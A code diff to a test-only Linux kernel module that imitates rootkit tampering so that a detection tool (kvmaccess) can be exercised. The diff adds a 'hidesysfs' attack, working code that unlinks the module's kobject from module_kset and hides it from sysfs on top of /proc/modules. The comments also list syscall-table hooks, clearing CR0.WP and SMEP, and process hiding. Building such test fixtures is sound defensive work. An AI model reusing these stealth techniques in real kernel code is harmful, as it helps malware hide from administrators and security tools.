@@ -8,7 +8,7 @@
  * else. Every attack logs one line "kvma_attack: <attack> done: ..." with the addresses it
  * touched and is undone on rmmod (except where noted).
  *
- *   insmod kvma_attack.ko attack=syscall,inline,idt,gdt,wp,smep,hide,ftrace hideproc=<pid>
+ *   insmod kvma_attack.ko attack=syscall,inline,idt,gdt,wp,smep,hide,hidesysfs,ftrace hideproc=<pid>
  *
  *   syscall  sys_call_table[__NR_getppid] -> kvma_sct_getppid (calls the original), written
  *            with CR0.WP cleared by a raw "mov to cr0".
@@ -24,6 +24,9 @@
  *            bring it back: each CPU's cpu_tlbstate.cr4 shadow and cr4_pinned_bits.
  *   hide     this module unlinked from the module list (/proc/modules); /sys/module stays.
  *            rmmod cannot find a hidden module: write 1 to parameters/unhide first.
+ *   hidesysfs  hide, and this module's kobject unlinked from module_kset's list as well (what
+ *            kobject_del does to it, minus removing the sysfs directory, so that unhide can
+ *            undo it); only the module address tree (mod_tree) still holds the module.
  *   hideproc=<pid>  the process unlinked from the task list (init_task.tasks); it stays in the
  *            PID table, so /proc/<pid> and ps (which read the PID table) still show it.
  *   ftrace   an ftrace_ops (SAVE_REGS|IPMODIFY) on __x64_sys_getpid redirecting it to
@@ -66,7 +69,7 @@ MODULE_DESCRIPTION("TEST-ONLY rootkit-style tampering for kvmaccess's detection 
 
 static char *attack = "";
 module_param(attack, charp, 0444);
-MODULE_PARM_DESC(attack, "comma-separated: syscall,inline,idt,gdt,wp,smep,hide,hideproc,ftrace");
+MODULE_PARM_DESC(attack, "comma-separated: syscall,inline,idt,gdt,wp,smep,hide,hidesysfs,hideproc,ftrace");
 
 static int hideproc;
 module_param(hideproc, int, 0444);
@@ -86,6 +89,7 @@ enum {
 	A_FTRACE = 1 << 6,
 	A_HIDEPROC = 1 << 7,
 	A_HIDE = 1 << 8,
+	A_HIDESYSFS = 1 << 9,
 };
 
 static const struct {
@@ -95,6 +99,7 @@ static const struct {
 	{ "syscall", A_SYSCALL }, { "inline", A_INLINE }, { "idt", A_IDT },
 	{ "gdt", A_GDT },	  { "wp", A_WP },	  { "smep", A_SMEP },
 	{ "ftrace", A_FTRACE },	  { "hideproc", A_HIDEPROC }, { "hide", A_HIDE },
+	{ "hidesysfs", A_HIDESYSFS },
 };
 
 static unsigned int done_mask;
@@ -733,6 +738,42 @@ static void undo_hide(void)
 	mutex_unlock(kvma_module_mutex);
 }
 
+/* ---------------------------------------------------------------------------------------- */
+/* hidesysfs: unlink this module's kobject from module_kset's list too                      */
+
+static struct kset *kvma_module_kset;
+static bool kobject_hidden;
+
+static int do_hidesysfs(void)
+{
+	struct kset **kset_ptr = lookup("module_kset");
+	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;
+
+	if (!kset_ptr || !*kset_ptr)
+		return -ENOENT;
+	kvma_module_kset = *kset_ptr;
+	spin_lock(&kvma_module_kset->list_lock);
+	list_del_init(&kobj->entry);
+	kobject_hidden = true;
+	spin_unlock(&kvma_module_kset->list_lock);
+	pr_info("hidesysfs done: module=%px kobject=%px unlinked from module_kset=%px\n",
+		THIS_MODULE, kobj, kvma_module_kset);
+	return 0;
+}
+
+static void undo_hidesysfs(void)
+{
+	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;
+
+	spin_lock(&kvma_module_kset->list_lock);
+	if (kobject_hidden) {
+		list_add_tail(&kobj->entry, &kvma_module_kset->list);
+		kobject_hidden = false;
+		pr_info("hidesysfs undone: kobject=%px relinked\n", kobj);
+	}
+	spin_unlock(&kvma_module_kset->list_lock);
+}
+
 /* parameters/unhide: writing 1 relinks a hidden module so that rmmod can find it. */
 static int unhide_set(const char *val, const struct kernel_param *kp)
 {
@@ -741,6 +782,10 @@ static int unhide_set(const char *val, const struct kernel_param *kp)
 
 	if (ret)
 		return ret;
+	if (v && (done_mask & A_HIDESYSFS)) {
+		undo_hidesysfs();
+		done_mask &= ~A_HIDESYSFS;
+	}
 	if (v && (done_mask & A_HIDE)) {
 		undo_hide();
 		done_mask &= ~A_HIDE;
@@ -808,6 +853,7 @@ static const struct {
 	{ A_FTRACE, "ftrace", do_ftrace, undo_ftrace },
 	{ A_HIDEPROC, "hideproc", do_hideproc, undo_hideproc },
 	{ A_HIDE, "hide", do_hide, undo_hide },
+	{ A_HIDESYSFS, "hidesysfs", do_hidesysfs, undo_hidesysfs },
 };
 
 static void undo_all(void)
@@ -876,6 +922,8 @@ static int parse_attacks(unsigned int *mask)
 	kfree(copy);
 	if (hideproc)
 		*mask |= A_HIDEPROC;
+	if (*mask & A_HIDESYSFS)
+		*mask |= A_HIDE;
 	return 0;
 }
 
